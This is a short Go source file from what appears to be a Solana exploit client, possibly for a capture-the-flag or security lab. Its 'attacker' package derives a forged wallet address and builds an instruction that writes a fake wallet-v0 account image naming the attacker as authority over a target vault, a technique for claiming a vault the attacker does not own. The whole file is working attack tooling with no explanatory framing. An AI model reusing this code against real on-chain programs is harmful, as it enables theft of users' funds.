// Package attacker builds instructions for a program loaded by the attacker.
// Its one instruction writes an arbitrary wallet-v0 image into an account the
// attacker program owns.
package attacker

import (
	"github.com/gagliardetto/solana-go"

	"vault-cli/codec"
	"vault-cli/pda"
	"vault-cli/programs"
	"vault-cli/programs/walletv0"
)

// FakeWalletAddress derives the forged wallet under the attacker program.
func FakeWalletAddress(programID, authority solana.PublicKey) (solana.PublicKey, uint8, error) {
	return pda.Derive(programID, authority[:])
}

// ForgeWallet creates fakeWallet with the wallet-v0 layout, naming authority
// as owner of vault.
func ForgeWallet(programID, fakeWallet, authority, vault solana.PublicKey) *solana.GenericInstruction {
	// # Account references
	//   0. [WRITE] Fake wallet, derived from [authority] under this program
	//   1. [] Vault to claim
	//   2. [WRITE, SIGNER] Authority, pays for the fake wallet
	//   3. [] Rent sysvar
	//   4. [] System program
	image := walletv0.EncodeWalletData(walletv0.WalletData{
		Authority: authority,
		Vault:     vault,
	})

	return programs.NewInstruction(
		programID,
		codec.NewPayload(programs.OpForgeWallet).Raw(image).Bytes(),
		programs.Writable(fakeWallet),
		programs.Readonly(vault),
		programs.WritableSigner(authority),
		programs.Readonly(solana.SysVarRentPubkey),
		programs.Readonly(solana.SystemProgramID),
	)
}
